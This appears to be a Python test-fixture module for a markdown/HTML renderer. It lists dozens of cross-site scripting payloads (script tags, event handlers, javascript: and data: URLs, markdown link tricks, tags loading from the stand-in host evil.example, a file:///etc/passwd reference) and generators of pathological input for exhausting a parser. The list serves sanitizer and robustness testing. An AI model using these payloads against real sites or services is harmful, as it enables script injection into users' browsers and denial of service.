"""Texts that were written to break pages, and texts that were written to keep a parser busy."""

from collections.abc import Callable

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=javascript:alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus=alert(1) autofocus='",
    "]]><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "{{ 7|add:7 }}{% debug %}",
    "${alert(1)}",
    "\x1fmenu\x1f",
    "\u2028<script>alert(1)</script>",
    "<a\x0chref='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x]( javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example'onmouseover='alert(1))",
    "![x](x onerror=alert(1))",
]


def ladder(sign: str) -> Callable[[int], str]:
    """Runs of the sign, each one longer than the last."""
    return lambda length: "".join("a" + sign * step for step in range(int((2 * length) ** 0.5)))[:length]


def repeated(words: str) -> Callable[[int], str]:
    return lambda length: (words * (length // len(words) + 1))[:length]


PATTERNS: dict[str, Callable[[int], str]] = {
    "brackets": repeated("["),
    "closing brackets": repeated("]"),
    "pictures": repeated("!["),
    "links begun": repeated("[a]("),
    "links begun with angles": repeated("[a](<"),
    "brackets, then links": lambda length: "[" * (length // 2) + "](a)" * (length // 8),
    "stars": repeated("*a "),
    "stars inside each other": repeated("**a *b "),
    "stars and lines": repeated("*_"),
    "lines": repeated("_a__b"),
    "one run of stars": repeated("*"),
    "ticks": repeated("`a``b```"),
    "ladder of ticks": ladder("`"),
    "tildes": repeated("~~a"),
    "angles": repeated("<"),
    "tags begun": repeated("<a "),
    "comments begun": repeated("<!--"),
    "addresses": repeated("http://"),
    "addresses of sites": repeated("www."),
    "dots": repeated("a."),
    "mail addresses": repeated("a@b.co "),
    "at signs": repeated("a@"),
    "mentions": repeated("@a "),
    "brackets in an address": lambda length: "http://a.example/" + "(" * (length - 17),
    "ampersands": repeated("&"),
    "entities": repeated("&#x1;"),
    "backslashes": repeated("\\"),
    "quotes": repeated("> "),
    "quotes line by line": repeated("> > > > a\n"),
    "lists": repeated("- "),
    "lists and quotes": repeated(">- "),
    "ladder of lists": lambda length: "\n".join(
        " " * step + "- a" for step in range(int((2 * length) ** 0.5))
    )[:length],
    "numbers": repeated("1. "),
    "hashes": repeated("# "),
    "fences": repeated("```\n"),
    "empty lines": repeated("\n\n"),
    "short lines": repeated("a\n"),
    "blanks": lambda length: " " * (length - 1) + "a",
    "definitions": repeated("[a]: b\n"),
}
